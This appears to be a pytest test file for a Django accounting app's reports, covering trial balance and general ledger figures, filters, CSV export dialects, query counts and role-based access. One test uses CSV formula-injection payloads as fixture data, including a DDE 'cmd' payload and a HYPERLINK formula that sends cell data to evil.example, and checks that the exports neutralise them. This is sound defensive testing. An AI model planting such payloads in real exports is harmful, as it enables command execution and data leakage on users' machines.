"""Reports for accountants and auditors: the numbers, the filters, the CSV downloads (both
dialects, formula injection), query counts that hold as the ledger grows, and who is refused."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from accounting.models import Budget, Finding, JournalLine, Payment
from accounting.reports import GENERAL_LEDGER_HEADER
from accounting.services import EntrySpec, Line, journal_entries_post
from accounting.views.reports import PAGE_SIZE
from backoffice import roles
from backoffice.csv_export import csv_lines
from tests.accounting.factories import account, open_year
from tests.hr.factories import DepartmentFactory

pytestmark = pytest.mark.django_db

BASE = "/accounting/reports/"
PAGES = {
    "trial_balance": BASE + "trial-balance/",
    "general_ledger": BASE + "general-ledger/",
    "budget_vs_actual": BASE + "budget-vs-actual/",
    "payments_register": BASE + "payments/",
    "findings_report": BASE + "findings/",
}


@pytest.fixture
def year():
    return open_year(2026)


@pytest.fixture
def accountant(make_user):
    return make_user(roles.ACCOUNTANT)


def _entry(day, *lines, memo="Buchung"):
    """``lines``: (account number, side, amount, department or None[, memo])."""
    return EntrySpec(
        date=day,
        memo=memo,
        lines=[
            Line(
                account=account(number),
                side=side,
                amount=Decimal(amount),
                department=department,
                memo=rest[0] if rest else "",
            )
            for number, side, amount, department, *rest in lines
        ],
    )


def _post_lines(count, *, departments, day=datetime.date(2026, 3, 10)):
    """Post ``count`` lines (a multiple of 10) in one batch: nine expense lines over the
    departments and one bank line per entry."""
    specs = []
    for n in range(count // 10):
        expense = [("4930", "D", "1.00", departments[i % len(departments)]) for i in range(9)]
        specs.append(
            _entry(day + datetime.timedelta(days=n % 5), *expense, ("1200", "C", "9.00", None))
        )
    journal_entries_post(entries=specs)


def _csv(response, *, delimiter=","):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    raw = b"".join(response.streaming_content)
    text = raw.decode("utf-8")
    return raw, list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


# --- Trial balance -----------------------------------------------------------------------------


@pytest.fixture
def three_entries(year):
    department = DepartmentFactory(code="VERT")
    journal_entries_post(
        entries=[
            _entry(datetime.date(2026, 3, 15), ("4930", "D", "100.00", department),
                   ("1200", "C", "100.00", None)),
            _entry(datetime.date(2026, 3, 20), ("1200", "D", "500.00", None),
                   ("8400", "C", "500.00", None)),
            _entry(datetime.date(2026, 5, 10), ("4930", "D", "40.00", department),
                   ("1200", "C", "40.00", None)),
        ]
    )  # fmt: skip
    return department


def test_trial_balance_sums_each_account_up_to_the_month_and_balances(
    client, accountant, three_entries
):
    """Up to March: the bank 500 debit / 100 credit, office supplies 100 debit, revenue 500
    credit; debits equal credits, and so do the balances. May's entry is left out."""
    client.force_login(accountant)
    response = client.get(PAGES["trial_balance"], {"year": 2026, "month": 3})

    assert response.status_code == 200
    report = response.context["report"]
    rows = {r.number: (r.debit, r.credit, r.balance_debit, r.balance_credit) for r in report.rows}
    assert rows == {
        "1200": (Decimal("500.00"), Decimal("100.00"), Decimal("400.00"), Decimal("0.00")),
        "4930": (Decimal("100.00"), Decimal("0.00"), Decimal("100.00"), Decimal("0.00")),
        "8400": (Decimal("0.00"), Decimal("500.00"), Decimal("0.00"), Decimal("500.00")),
    }
    assert report.debit == report.credit == Decimal("600.00")
    assert report.balance_debit == report.balance_credit == Decimal("500.00")
    assert report.balanced
    assert 'data-testid="balanced"' in response.content.decode()

    whole_year = client.get(PAGES["trial_balance"], {"year": 2026, "month": 12}).context["report"]
    assert whole_year.debit == Decimal("640.00")


def test_trial_balance_csv_has_the_rows_and_the_totals(client, accountant, three_entries):
    client.force_login(accountant)
    _raw, rows = _csv(
        client.get(PAGES["trial_balance"], {"year": 2026, "month": 3, "format": "csv"})
    )
    assert [r[0] for r in rows[1:]] == ["1200", "4930", "8400", ""]
    assert rows[1][3:] == ["500.00", "100.00", "400.00", "0.00"]
    assert rows[-1][3:] == ["600.00", "600.00", "500.00", "500.00"]


# --- General ledger ----------------------------------------------------------------------------


def test_general_ledger_filters_by_month_account_and_cost_center(client, accountant, three_entries):
    """Each filter narrows the lines; the totals above the list are those of all matching
    lines."""
    client.force_login(accountant)

    def lines(**params):
        response = client.get(PAGES["general_ledger"], {"year": 2026, **params})
        assert response.status_code == 200
        return response.context["lines"], response.context["debit"], response.context["credit"]

    everything, debit, credit = lines()
    assert len(everything) == 6
    assert debit == credit == Decimal("640.00")
    assert [row["date"] for row in everything] == sorted(row["date"] for row in everything)

    march, debit, credit = lines(month=3)
    assert len(march) == 4
    assert debit == credit == Decimal("600.00")

    bank, debit, credit = lines(account="1200")
    assert {row["account__number"] for row in bank} == {"1200"}
    assert (debit, credit) == (Decimal("500.00"), Decimal("140.00"))

    sales_dept, debit, credit = lines(department="VERT")
    assert [(row["account__number"], row["debit"]) for row in sales_dept] == [
        ("4930", Decimal("100.00")),
        ("4930", Decimal("40.00")),
    ]
    assert (debit, credit) == (Decimal("140.00"), Decimal("0.00"))

    none, _debit, _credit = lines(month=5, account="8400")
    assert none == []


def test_general_ledger_pages_by_keyset_without_gaps_or_repeats(client, accountant, year):
    """The list shows PAGE_SIZE lines and a link to the next page that starts after the last
    line shown (date, id); following it reaches every line exactly once."""
    _post_lines(130, departments=[DepartmentFactory()])
    client.force_login(accountant)

    first = client.get(PAGES["general_ledger"], {"year": 2026})
    assert len(first.context["lines"]) == PAGE_SIZE
    next_query = first.context["next_query"]
    assert "after=" in next_query
    second = client.get(PAGES["general_ledger"] + "?" + next_query)
    assert len(second.context["lines"]) == 30
    assert second.context["next_query"] == ""

    ids = [row["id"] for row in first.context["lines"] + second.context["lines"]]
    assert len(set(ids)) == 130
    assert set(ids) == set(JournalLine.objects.values_list("id", flat=True))


@pytest.mark.parametrize(
    "params",
    [{"account": "9999"}, {"department": "NOPE"}, {"month": "13"}, {"year": "1999"},
     {"after": "gestern,1"}, {"year": "abc"}],
)  # fmt: skip
def test_general_ledger_bad_filters_get_a_message_not_an_error(client, accountant, year, params):
    """A filter that names nothing, or a broken page link, is a 400 with the field named."""
    client.force_login(accountant)
    response = client.get(PAGES["general_ledger"], params)
    assert response.status_code == 400
    assert response.context["form"].errors
    assert 'data-testid="filter-errors"' in response.content.decode()


def test_general_ledger_csv_streams_every_matching_line_in_both_dialects(client, accountant, year):
    """The CSV holds every matching line (not one page); standard is commas and decimal
    points, the German Excel variant a BOM, semicolons and decimal commas."""
    department = DepartmentFactory(code="VERT", name="Vertrieb")
    _post_lines(150, departments=[department])
    journal_entries_post(
        entries=[
            _entry(
                datetime.date(2026, 4, 1),
                ("4930", "D", "1234.56", department, "Büromaterial, groß"),
                ("1200", "C", "1234.56", None),
            )
        ]
    )
    client.force_login(accountant)
    url = PAGES["general_ledger"]

    raw, rows = _csv(client.get(url, {"year": 2026, "format": "csv"}))
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert len(rows) == 1 + 152
    assert len(rows[0]) == 9
    special = next(r for r in rows if r[8] == "Büromaterial, groß")
    assert special[:3] == ["2026-04-01", "16", "4930"]
    assert special[4:] == ["VERT", "Vertrieb", "1234.56", "", "Büromaterial, groß"]

    raw, rows = _csv(
        client.get(url, {"year": 2026, "format": "csv", "dialect": "excel-de"}), delimiter=";"
    )
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b";" in raw.split(b"\r\n")[0]
    special = next(r for r in rows if r[8] == "Büromaterial, groß")
    assert special[6] == "1234,56"
    assert len(rows) == 1 + 152

    _raw, rows = _csv(client.get(url, {"year": 2026, "month": 4, "format": "csv"}))
    assert len(rows) == 1 + 2


def test_formula_injection_is_neutralised_in_report_cells(client, accountant, year):
    """A memo and a department name that a spreadsheet would run as formulas arrive as text
    (leading apostrophe) in the general ledger and the budget report; amounts stay numbers."""
    evil = DepartmentFactory(code="@EVIL", name="+cmd|' /C calc'!A0")
    Budget.objects.create(
        department=evil, fiscal_year=year, account=account("4930"), amount=Decimal("10.00")
    )
    journal_entries_post(
        entries=[
            _entry(
                datetime.date(2026, 3, 1),
                ("4930", "D", "12.50", evil, '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'),
                ("1200", "C", "12.50", None, "-Gutschrift"),
            )
        ]
    )
    client.force_login(accountant)

    _raw, rows = _csv(client.get(PAGES["general_ledger"], {"year": 2026, "format": "csv"}))
    expense, bank = rows[1], rows[2]
    assert expense[4] == "'@EVIL"
    assert expense[5] == "'+cmd|' /C calc'!A0"
    assert expense[8] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
    assert bank[8] == "'-Gutschrift"
    assert expense[6] == "12.50"

    _raw, rows = _csv(
        client.get(PAGES["budget_vs_actual"], {"year": 2026, "format": "csv"}), delimiter=","
    )
    assert rows[1][:2] == ["'@EVIL", "'+cmd|' /C calc'!A0"]
    assert rows[1][6] == "-2.50"  # remaining: a negative number stays a number


@pytest.mark.parametrize("language", ["en", "de"])
@pytest.mark.parametrize("dialect", ["standard", "excel-de"])
def test_general_ledger_csv_from_postgresql_is_what_the_python_writer_makes(
    client, accountant, year, dialect, language
):
    """The general ledger CSV is written by PostgreSQL (COPY); byte for byte it is the file
    ``csv_lines`` makes from the same lines: the translated header, the account name in the
    reader's language, memos with quotes, line breaks and formula triggers, the entry's memo
    where a line has none, empty cost centers, amounts with the dialect's decimal separator."""
    evil = DepartmentFactory(code="=EVIL", name='Vertrieb "Nord"; Süd')
    texts = ["=1+1", "+x", "-Gutschrift", "@A1", "\tTab", "\rCR", "\nLF", 'a "b", c\r\nd', ""]
    journal_entries_post(
        entries=[
            _entry(
                datetime.date(2026, 3, 1 + i),
                ("4930", "D", "1234.56", evil, text),
                ("1200", "C", "1234.56", None),
                memo=texts[-1 - i],
            )
            for i, text in enumerate(texts)
        ]
    )
    client.force_login(accountant)
    response = client.get(
        PAGES["general_ledger"],
        {"year": 2026, "format": "csv", "dialect": dialect},
        headers={"accept-language": language},
    )
    assert response.status_code == 200
    actual = b"".join(response.streaming_content)

    with translation.override(language):
        lines = JournalLine.objects.select_related("entry", "account", "department").order_by(
            "date", "id"
        )
        rows = [
            (
                line.date,
                line.entry.number,
                line.account.number,
                line.account.name_de if language == "de" else line.account.name_en,
                line.department.code if line.department else None,
                line.department.name if line.department else None,
                line.amount if line.side == "D" else None,
                line.amount if line.side == "C" else None,
                line.memo or line.entry.memo,
            )
            for line in lines
        ]
        header = [str(h) for h in GENERAL_LEDGER_HEADER]
    expected = "".join(csv_lines(rows=rows, header=header, dialect=dialect)).encode()
    assert len(rows) == 2 * len(texts)
    assert actual == expected
    assert ("Datum" if language == "de" else "Date").encode() in actual.split(b"\r\n")[0]


# --- Budget versus actual, payments, findings ---------------------------------------------------


def test_budget_vs_actual_lists_every_budget_with_actual_and_flags(client, accountant, year):
    """Every department's budgets with actual, committed, remaining and percent; rows from
    80 % flagged, from 100 % flagged stronger."""
    a, b = DepartmentFactory(code="AAA"), DepartmentFactory(code="BBB")
    for dept in (a, b):
        Budget.objects.create(
            department=dept, fiscal_year=year, account=account("4930"), amount=Decimal("100.00")
        )
    day = datetime.date(2026, 3, 1)
    journal_entries_post(
        entries=[
            _entry(day, ("4930", "D", "85.00", a), ("1200", "C", "85.00", None)),
            _entry(day, ("4930", "D", "120.00", b), ("1200", "C", "120.00", None)),
        ]
    )
    client.force_login(accountant)
    response = client.get(PAGES["budget_vs_actual"], {"year": 2026})
    rows = {r["status"].budget.department.code: r for r in response.context["rows"]}
    assert rows["AAA"]["status"].actual == Decimal("85.00")
    assert (rows["AAA"]["level"], rows["BBB"]["level"]) == ("warn", "over")
    assert rows["BBB"]["status"].remaining == Decimal("-20.00")

    _raw, csv_rows = _csv(client.get(PAGES["budget_vs_actual"], {"format": "csv"}))
    assert [r[0] for r in csv_rows[1:]] == ["AAA", "BBB"]
    assert csv_rows[2][3:8] == ["100.00", "120.00", "0.00", "-20.00", "120"]


def _payments(count, *, user, start=0):
    statuses = [Payment.Status.DRAFT, Payment.Status.POSTED, Payment.Status.CANCELLED]
    Payment.objects.bulk_create(
        Payment(
            direction=Payment.Direction.OUTGOING if i % 2 else Payment.Direction.INCOMING,
            counterparty=f"Lieferant {i}",
            iban="DE02120300000000202051",
            amount=Decimal("10.00") + i,
            due_date=datetime.date(2026, 1, 1) + datetime.timedelta(days=i % 200),
            reference=f"RE-{i}",
            bank_account=account("1200"),
            counter_account=account("1600"),
            created_by=user,
            status=statuses[i % 3],
        )
        for i in range(start, start + count)
    )


def test_payments_register_filters_by_status_direction_and_due_date(client, accountant, year):
    _payments(12, user=accountant)
    client.force_login(accountant)

    def shown(**params):
        response = client.get(PAGES["payments_register"], params)
        assert response.status_code == 200
        return [p["counterparty"] for p in response.context["payments"]]

    assert len(shown()) == 12
    assert shown(status="draft") == ["Lieferant 0", "Lieferant 3", "Lieferant 6", "Lieferant 9"]
    assert shown(status="draft", direction="out") == ["Lieferant 3", "Lieferant 9"]
    assert shown(date_from="2026-01-03", date_to="2026-01-05") == [
        "Lieferant 2",
        "Lieferant 3",
        "Lieferant 4",
    ]
    bad = client.get(
        PAGES["payments_register"], {"date_from": "2026-02-01", "date_to": "2026-01-01"}
    )
    assert bad.status_code == 400

    _raw, rows = _csv(client.get(PAGES["payments_register"], {"status": "draft", "format": "csv"}))
    assert [r[3] for r in rows[1:]] == ["Lieferant 0", "Lieferant 3", "Lieferant 6", "Lieferant 9"]
    assert rows[1][5] == "10.00"


def _findings(count, *, start=0):
    Finding.objects.bulk_create(
        Finding(
            check_code="round_amounts",
            key=f"entry:{i}",
            title=f"Runder Betrag {i}",
            severity=Finding.Severity.LOW,
            status=[Finding.Status.OPEN, Finding.Status.ACKNOWLEDGED, Finding.Status.RESOLVED][
                i % 3
            ],
            comment="erledigt" if i % 3 == 2 else "",
        )
        for i in range(start, start + count)
    )


def test_findings_report_lists_unresolved_findings_only(client, make_user, year):
    """Open and acknowledged findings are listed (page and CSV); resolved ones are not."""
    _findings(6)
    client.force_login(make_user(roles.AUDITOR))
    response = client.get(PAGES["findings_report"])
    assert response.status_code == 200
    titles = [f["title"] for f in response.context["findings"]]
    assert titles == ["Runder Betrag 4", "Runder Betrag 3", "Runder Betrag 1", "Runder Betrag 0"]
    _raw, rows = _csv(client.get(PAGES["findings_report"], {"format": "csv"}))
    assert [r[4] for r in rows[1:]] == titles


# --- Query counts ------------------------------------------------------------------------------


def _queries(client, url, params):
    """Queries of one GET (reading a streamed body to the end), after an unmeasured one."""

    def get():
        response = client.get(url, params)
        assert response.status_code == 200, url
        if response.streaming:
            b"".join(response.streaming_content)

    get()
    with CaptureQueriesContext(connection) as captured:
        get()
    return len(captured.captured_queries)


def _every_report(client):
    counts = {"index": _queries(client, "/accounting/", {})}
    for name, url in PAGES.items():
        params = {"year": 2026} if name != "payments_register" and name != "findings_report" else {}
        counts[name] = _queries(client, url, params)
        for dialect in ("standard", "excel-de"):
            counts[f"{name}.csv.{dialect}"] = _queries(
                client, url, {**params, "format": "csv", "dialect": dialect}
            )
    return counts


def test_every_report_page_and_csv_costs_the_same_queries_at_two_ledger_sizes(
    client, accountant, year
):
    """Each report page and each CSV download costs as many queries with 20 lines, 2 budgets,
    3 payments and 3 findings as with 200 lines (beyond a page), 8 budgets, 130 payments
    (beyond a page) and 30 findings: nothing is fetched row by row."""
    departments = [DepartmentFactory() for _ in range(2)]
    for dept in departments:
        Budget.objects.create(
            department=dept, fiscal_year=year, account=account("4930"), amount=Decimal("500.00")
        )
    _post_lines(20, departments=departments)
    _payments(3, user=accountant)
    _findings(3)
    client.force_login(accountant)
    small = _every_report(client)

    more = [DepartmentFactory() for _ in range(6)]
    for dept in more:
        Budget.objects.create(
            department=dept, fiscal_year=year, account_group="49", amount=Decimal("500.00")
        )
    _post_lines(200, departments=departments + more)
    _payments(130, user=accountant, start=3)
    _findings(30, start=3)
    large = _every_report(client)

    assert large == small


# --- Who may see the reports -------------------------------------------------------------------

REFUSED_ROLES = [
    roles.STAFF,
    roles.DATA_ENTRY_CLERK,
    roles.PAYROLL_CLERK,
    roles.HR_MANAGER,
    roles.RECRUITER,
    roles.DEPARTMENT_HEAD,
    roles.HELPDESK_AGENT,
    roles.OFFICE_MANAGER,
]


@pytest.mark.parametrize("role", REFUSED_ROLES)
def test_roles_without_export_reports_get_403_on_every_report_and_export(
    client, make_user, year, role
):
    """Only accountants and auditors (accounting.export_reports) see reports: every other
    role gets 403 on every page and every CSV, in both dialects."""
    client.force_login(make_user(role))
    for url in PAGES.values():
        assert client.get(url).status_code == 403, url
        assert client.get(url, {"format": "csv"}).status_code == 403, url
        assert client.get(url, {"format": "csv", "dialect": "excel-de"}).status_code == 403, url


@pytest.mark.parametrize("role", [roles.ACCOUNTANT, roles.AUDITOR])
def test_accountants_and_auditors_open_every_report(client, make_user, year, role):
    client.force_login(make_user(role))
    for url in PAGES.values():
        assert client.get(url).status_code == 200, url
        response = client.get(url, {"format": "csv"})
        assert response.status_code == 200, url
        b"".join(response.streaming_content)


def test_anonymous_is_sent_to_login(client, year):
    for url in [*PAGES.values(), "/accounting/"]:
        response = client.get(url, {"format": "csv"})
        assert response.status_code == 302
        assert "/accounts/login/" in response["Location"]


def test_reports_answer_get_only(client, accountant, year):
    client.force_login(accountant)
    assert client.post(PAGES["general_ledger"]).status_code == 405


# --- The start page ----------------------------------------------------------------------------


def test_start_page_lists_what_the_user_may_open(client, make_user, year):
    """Accountants see the reports and the budgets; a department head only the budgets;
    staff have nothing in accounting and get 403."""
    client.force_login(make_user(roles.ACCOUNTANT))
    html = client.get("/accounting/").content.decode()
    for url in [*PAGES.values(), "/accounting/budgets/"]:
        assert f'href="{url}"' in html

    client.force_login(make_user(roles.DEPARTMENT_HEAD))
    response = client.get("/accounting/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'href="/accounting/budgets/"' in html
    assert BASE not in html

    client.force_login(make_user(roles.STAFF))
    assert client.get("/accounting/").status_code == 403


def test_a_download_stopped_early_ends_its_transaction(client, accountant, year):
    """The general ledger CSV reads through a server-side cursor inside a transaction; when
    the client goes away and the response is closed, both end at once."""
    _post_lines(1100, departments=[DepartmentFactory()])  # more than one chunk of 1,000 rows
    client.force_login(accountant)
    before = list(connection.savepoint_ids)

    response = client.get(PAGES["general_ledger"], {"year": 2026, "format": "csv"})
    chunks = iter(response.streaming_content)
    next(chunks)  # the header
    next(chunks)  # the first rows: the cursor is open
    assert len(connection.savepoint_ids) == len(before) + 1
    _close_as_the_server_would(response)

    assert connection.savepoint_ids == before
    assert client.get(PAGES["trial_balance"], {"year": 2026}).status_code == 200


def _close_as_the_server_would(response):
    """What the WSGI server does when a client goes away mid-download: close the response.
    Its request_finished signal would close the test's database connection (still in the
    test's transaction); the test client avoids that for streams read to the end, this does
    it for a stream closed early."""
    from unittest import mock

    from django.db import connection

    with mock.patch.object(connection, "close_if_unusable_or_obsolete"):
        response.close()
